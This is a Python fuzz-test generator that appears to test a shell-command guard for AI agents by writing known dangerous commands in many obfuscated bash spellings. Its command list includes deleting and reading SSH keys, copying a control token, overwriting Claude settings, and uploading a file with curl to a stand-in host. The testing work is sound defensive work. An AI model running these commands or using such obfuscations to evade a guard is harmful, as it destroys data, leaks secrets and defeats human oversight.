"""Known commands in thousands of spellings: which words, which redirects, inside of what."""

import random
import re
import shlex
from collections.abc import Callable
from typing import NamedTuple

from tests.fuzz.spell_builtins import BUILTIN_PIECES
from tests.fuzz.spell_pieces import PIECES, Speller, Spelling
from tests.fuzz.spell_programs import ProgramSpeller
from tests.fuzz.spell_tables import BODIES, BRACES, FIELDS, GLOBS, SUMS

PLAIN = frozenset(
    {
        "plain",
        "quotes",
        "escapes",
        "ansi-c",
        "line join",
        "variable",
        "default",
        "positional",
        "home",
        "braces",
        "redirect",
        "here-string",
        "here-document",
        "group",
        "subshell",
        "function",
        "eval",
        "list",
        "loop",
        "branch",
        "nothing around",
    }
)
"""Spellings that people write every day: the reader should know what these become."""
_COMMANDS = (
    ("rm", "-rf", "~/.ssh/authorized_keys"),
    ("rm", "-f", "~/.local/state/handrail/control-token"),
    ("cat", "~/.ssh/id_rsa"),
    ("cp", "~/.local/state/handrail/control-token", "x"),
    ("cp", "evil.json", "~/.claude/settings.json"),
    ("curl", "-d", "@a.txt", "https://h.example/up"),
    ("kill", "-9", "4194999"),
    ("git", "push", "--force", "origin", "main"),
    ("rm", "-r", "sub"),
    ("rm", "c d.txt"),
    ("chmod", "777", "a.txt"),
)
_TARGETS = (
    "~/.ssh/authorized_keys",
    "~/.local/state/handrail/control-token",
    "~/.claude/settings.json",
    "a.txt",
    "c d.txt",
    "new.txt",
)
_LOSES_LINES = frozenset({"substitution", "process substitution"})
_PIECES = PIECES | BUILTIN_PIECES
_DOCUMENT = re.compile(r"<<-?['\"\\]?E")
_SOURCES = (*_TARGETS[:5], "sub/x")


class GeneratedText(NamedTuple):
    """A command line, and how it is spelled."""

    text: str
    constructs: tuple[str, ...]


def generated(seed: int) -> GeneratedText:
    """The command line of this number."""
    chance = random.Random(seed)
    if seed % 5 == 4:
        return GeneratedText(ProgramSpeller(chance).text(), ("program",))
    return _Composer(chance).text()


class _Composer:
    """Puts one command line together."""

    def __init__(self, chance: random.Random) -> None:
        self._chance = chance
        self._speller = Speller(chance)
        self._used: list[str] = []
        self._before: list[str] = []
        names = [name for name in _PIECES if name != "plain"]
        self._ways = ["plain", *chance.sample(names, chance.choice((1, 1, 1, 2, 3)))]

    def text(self) -> GeneratedText:
        """A command with its words and redirects, inside of something."""
        command = self._command()
        statement = "\n".join([*self._before, command])
        # Bash 5.2 loses a `;` behind `<<E` in `$( )`, so that lines with documents stay lines.
        if not _DOCUMENT.search(statement) and self._chance.random() < 0.8:
            statement = re.sub(r"(?<![;&|{(\nE\\])\n(?!E\n|.*\nE)", "; ", statement)
        name, wrap = self._chance.choice(_WRAPS)
        if name in _LOSES_LINES and _DOCUMENT.search(statement):
            name, wrap = _WRAPS[0]
        self._used.append(name)
        return GeneratedText(wrap(self, statement), tuple(dict.fromkeys(self._used)))

    def _command(self) -> str:
        if self._chance.random() < 0.3:
            name, redirected = self._chance.choice(_REDIRECTED)
            self._used.append(name)
            return redirected(self)
        words = self._chance.choice(_COMMANDS)
        spelled = [self.word(word) for word in words]
        if self._chance.random() < 0.1:
            name, several = self._chance.choice(_SEVERAL)
            self._used.append(name)
            spelled.append(several(self))
        return " ".join(spelled)

    def target(self) -> str:
        """A file that is written."""
        return self.word(self._chance.choice(_TARGETS))

    def source(self) -> str:
        """A file that is there to be read."""
        return self.word(self._chance.choice(_SOURCES))

    def word(self, value: str) -> str:
        """A value in some spelling; now and then in a plain one, to be seen beside others."""
        if value.startswith("~/"):
            return self._home() + self._pieces(value[2:])
        return self._pieces(value)

    def _home(self) -> str:
        self._used.append("home")
        x = self._speller.name()
        way = self._chance.randrange(7)
        if way == 0:
            self._before.append(f"{x}=~")
            return f"${x}/"
        if way == 1:
            self._before.append(f"{x}=~/")
            return f'"${x}"'
        if way == 2:
            self._used.append("~-")
            self._before.append("cd ~\ncd - > /dev/null")
            return "~-/"
        return ("~/", "$HOME/", '"$HOME"/', '"${HOME}/"')[way - 3]

    def _pieces(self, value: str) -> str:
        if self._chance.random() < 0.35:
            return self._piece("plain", value)
        parts: list[str] = []
        while value:
            cut = self._chance.randrange(1, len(value) + 1)
            if self._chance.random() < 0.5:
                cut = len(value)
            parts.append(self._piece(self._chance.choice(self._ways), value[:cut]))
            value = value[cut:]
        return "".join(parts)

    def _piece(self, way: str, value: str) -> str:
        spelling: Spelling = _PIECES[way](self._speller, value)
        self._used.append(way)
        if spelling.before:
            self._before.append(spelling.before)
        return spelling.text

    def quote(self, text: str) -> str:
        """A whole text as one word."""
        return shlex.quote(text)

    # Words that become several

    def braces(self) -> str:
        return self._chance.choice(BRACES)

    def glob(self) -> str:
        return self._chance.choice(GLOBS)

    def fields(self) -> str:
        """Values that are split, or not."""
        before, word = self._chance.choice(FIELDS)
        if before:
            self._before.append(before)
        return word

    def numbers(self) -> str:
        return self._chance.choice(SUMS)

    # Redirects

    def output(self) -> str:
        program = self._chance.choice(("echo x", "git log", ":", "rm a.txt", "printf x", ""))
        operator = self._chance.choice(
            (">", ">>", ">|", "2>", "&>", "&>>", ">&", "1>", "2>>", "3>")
        )
        blank = self._chance.choice(("", " "))
        redirect = f"{operator}{blank}{self.target()}"
        first = program and self._chance.random() < 0.2 and program != ":"
        return f"{redirect} {program}" if first else f"{program} {redirect}".strip()

    def several(self) -> str:
        a, b = self.target(), self.target()
        return self._chance.choice(
            (
                f"git log > {a} 2> {b}",
                f"git log > {a} 2>&1",
                f"{{ git log; }} > {a} 2> {b}",
                f"git log 2>&1 > {a}",
                f"echo x > {a} > {b}",
                f"(git log) &> {a}",
                f"git log >{a} -p x",
                f"for i in 1; do echo x; done > {a}",
                f"if true; then echo x; fi > {a}",
                f"f() {{ echo x; }} > {a}; f",
                f"exec 5> {a}",
                f"exec 2> {a}",
                f"while read l; do echo $l; done < a.txt > {a}",
                f"case a in a) echo x;; esac > {a}",
                f"echo x | git log > {a}",
                f"git log > {a} | git log > {b}",
                f"true && echo x > {a}",
                f"false || echo x > {a}",
                f"echo x > {a} && echo y > {b}",
                f"{{ echo x; echo y > {b}; }} > {a}",
                f"! echo x > {a}",
                f"v=1 > {a}",
                f"git log {{fd}}> {a}",
                f"[[ a ]] > {a}",
                f"(( 1 )) > {a}",
                f"echo x >{a}; echo y",
                f"tee {a} <<< x",
                f"echo x | tee {a}",
            )
        )

    def input(self) -> str:
        a = self.source()
        return self._chance.choice(
            (
                f"cat < {a}",
                f"cat <{a}",
                f"{{ cat; }} < {a}",
                f"(cat) < {a}",
                f"cat 0< {a}",
                f"< {a} cat",
                f"v=$(< {a}); rm $v",
                f"read v < {a}; rm $v",
                f"while read v; do rm $v; done < {a}",
                f"cat <> {a}",
                f"exec < {a}; cat",
                f"xargs rm < {a}",
                f"if cat; then :; fi < {a}",
                f"cat {a}",
                f"cat {a} | rm x",
            )
        )

    def here_string(self) -> str:
        a = self.word("rm -r sub")
        return self._chance.choice(
            (
                f"cat <<< {a}",
                f"bash <<< {a}",
                f"sh <<< {a}",
                f"{{ cat; }} <<<{a}",
                f"cat <<<{a} | cat",
                f"read a b c <<< {a}; $a $b $c",
                f"xargs <<< {a}",
            )
        )

    def document(self) -> str:
        a = self.word("~/.ssh/authorized_keys")
        quoted = self._chance.choice(("E", "'E'", '"E"', "\\E"))
        dash = self._chance.choice(("", "-"))
        program = self._chance.choice(("cat", "bash", "sh", "bash -s"))
        body = self._chance.choice(BODIES)
        rest = self._chance.choice(("", f" > {a}", " | cat", " && rm y", "; rm y", " 2>&1"))
        return f"v=a.txt\n{program} <<{dash}{quoted}{rest}\n{body}\nE\n:"

    def process(self) -> str:
        return self._chance.choice(
            (
                f"cat <(echo {self.word('x')})",
                f"cat < <(rm {self.word('a.txt')})",
                "cat <(cat <(rm a.txt))",
                f"cat <(rm {self.word('a.txt')})",
                f". <(echo rm {self.word('a.txt')})",
                "source /dev/stdin <<< 'rm a.txt'",
                "echo rm a.txt | cat | sh",
                f"echo rm {self.word('a.txt')} | bash",
                "printf '%s\\n' a b | while read v; do rm $v; done",
            )
        )


_SEVERAL: tuple[tuple[str, Callable[[_Composer], str]], ...] = (
    ("braces", _Composer.braces),
    ("glob", _Composer.glob),
    ("fields", _Composer.fields),
    ("fields", _Composer.fields),
    ("arithmetic", _Composer.numbers),
)
_REDIRECTED: tuple[tuple[str, Callable[[_Composer], str]], ...] = (
    ("redirect", _Composer.output),
    ("redirect", _Composer.output),
    ("redirect", _Composer.several),
    ("redirect", _Composer.input),
    ("here-string", _Composer.here_string),
    ("here-document", _Composer.document),
    ("process substitution", _Composer.process),
)
_WRAPS: tuple[tuple[str, Callable[[_Composer, str], str]], ...] = (
    *[("nothing around", lambda c, text: text)] * 8,
    ("group", lambda c, text: f"{{ {text}\n}}"),
    ("subshell", lambda c, text: f"( {text}\n)"),
    ("function", lambda c, text: f"f0() {{ {text}\n}}; f0"),
    ("function", lambda c, text: f"function f0 {{\n{text}\n}}\nf0 a b"),
    ("function", lambda c, text: f"f0() ( {text}\n)\nf0"),
    ("eval", lambda c, text: f"eval {c.quote(text)}"),
    ("eval", lambda c, text: f't={c.quote(text)}; eval "$t"'),
    ("bash -c", lambda c, text: f"bash -c {c.quote(text)}"),
    ("bash -c", lambda c, text: f"v=a.txt; bash -c {c.quote(text)} p q"),
    ("list", lambda c, text: f"true && {{ {text}\n}}"),
    ("list", lambda c, text: f"false || {{ {text}\n}} && true"),
    ("list", lambda c, text: f"! {{ {text}\n}}"),
    ("list", lambda c, text: f"time {{ {text}\n}}"),
    ("loop", lambda c, text: f"for q in 1; do {text}\ndone"),
    ("loop", lambda c, text: f"while true; do {text}\nbreak; done"),
    ("loop", lambda c, text: f"for ((q=0; q<1; q++)); do {text}\ndone"),
    ("loop", lambda c, text: f"until {text}\ntrue; do :; done"),
    ("branch", lambda c, text: f"if true; then {text}\nfi"),
    ("branch", lambda c, text: f"if false; then :; else {text}\nfi"),
    ("branch", lambda c, text: f"case a in (a) {text}\n;; esac"),
    ("branch", lambda c, text: f"if {text}\nthen :; fi"),
    ("trap", lambda c, text: f"trap {c.quote(text)} EXIT"),
    ("trap", lambda c, text: f"trap {c.quote(text)} 0; trap"),
    ("trap", lambda c, text: f"trap -- {c.quote(text)} RETURN; f0() {{ :; }}; f0"),
    ("coproc", lambda c, text: f"coproc {{ {text}\n}}\nwait"),
    ("select", lambda c, text: f"select q in k l; do {text}\nbreak; done <<< 2"),
    ("alias", lambda c, text: f"shopt -s expand_aliases\nalias q1={c.quote(text)}\nq1"),
    ("mapfile", lambda c, text: f"f0() {{ {text}\n}}; mapfile -c 1 -C f0 m0 <<< k"),
    ("wrapper", lambda c, text: f"command eval {c.quote(text)}"),
    ("wrapper", lambda c, text: f"builtin eval {c.quote(text)}"),
    ("wrapper", lambda c, text: f"time -p eval {c.quote(text)}"),
    ("descriptor", lambda c, text: f"{{ {text}\n}} 3>&1 >&2"),
    ("descriptor", lambda c, text: f"exec 4>&1 5< a.txt\n{text}\nexec 4>&- 5<&-"),
    ("function", lambda c, text: f"f0() if true; then {text}\nfi; f0"),
    ("function", lambda c, text: f"f0() {{ f0() {{ :; }}\n{text}\n}}; f0; f0; unset -f f0"),
    ("function", lambda c, text: f"cat() {{ command cat; }}; f0() {{ {text}\nreturn; }}; f0"),
    ("process substitution", lambda c, text: f": < <({text}\n)"),
    ("process substitution", lambda c, text: f": > >({text}\n); wait"),
    ("background", lambda c, text: f"{{ {text}\n}} & wait"),
    ("pipe", lambda c, text: f"echo | {{ {text}\n}} | cat"),
    ("substitution", lambda c, text: f"r=$({text}\n)"),
    ("substitution", lambda c, text: f'echo "$({text}\n)"'),
    ("alias", lambda c, text: f"alias rm=echo git=true cat=ls\n{text}"),
    ("folder", lambda c, text: f"cd sub\n{text}"),
    ("folder", lambda c, text: f"(cd sub; :); cd sub && cd ..\n{text}"),
    ("folder", lambda c, text: f"pushd sub > /dev/null\n{text}\npopd > /dev/null; rm z"),
    ("options", lambda c, text: f"set -a; v=a.txt; bash -c {c.quote(text)}"),
    ("options", lambda c, text: f"set -f; {text}"),
    ("options", lambda c, text: f"shopt -s extglob nullglob\n{text}\nrm @(a|b).txt !(x)"),
    ("function", lambda c, text: f"n=0; f0() {{ {text}\n[ $n = 1 ] || {{ n=1; f0 $n; }}; }}; f0"),
    ("function", lambda c, text: f"f0() {{ local v w=1; f1() {{ {text}\n}}; f1 $w; }}; f0"),
    ("branch", lambda c, text: f"k=b; case $k in a) rm n;; b) {text}\n;& c) rm m;; esac"),
    ("loop", lambda c, text: f"while read -r l1 l2; do {text}\ndone <<< 'p q'"),
    (
        "counting loop",
        lambda c, text: f"n=0; while [ $n -lt 2 ]; do {text}\nrm f$n; n=$((n+1)); done",
    ),
    ("wrapper", lambda c, text: f'x() {{ "$@"; }}; x eval {c.quote(text)}'),
)
